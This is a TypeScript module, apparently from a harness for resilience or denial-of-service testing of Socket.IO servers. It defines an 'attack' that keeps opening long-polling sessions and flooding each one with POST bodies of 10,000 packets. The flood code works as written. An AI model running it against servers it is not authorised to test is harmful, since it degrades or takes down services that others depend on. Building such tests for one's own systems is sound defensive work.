import type { Attack } from './attack.ts';

/** Sessions of long polling that post as many packets as a body holds, again and again. */
export const pollingPosts: Attack = {
  what: 'a client that polls posts bodies full of packets',
  async run({ url, signal }) {
    const polling = `${url}/socket.io/?EIO=4&transport=polling`;
    const body = Array(10_000).fill('3').join('\x1e');
    let [posted, sessions] = [0, 0];
    while (!signal.aborted) {
      try {
        const { sid } = JSON.parse((await (await fetch(polling, { signal })).text()).slice(1)) as { sid: string };
        sessions++;
        while ((await fetch(`${polling}&sid=${sid}`, { method: 'POST', body, signal })).ok) posted++;
      } catch {
        // Refused, or over.
      }
    }
    return `${posted} bodies of 10,000 packets taken over ${sessions} sessions`;
  },
};
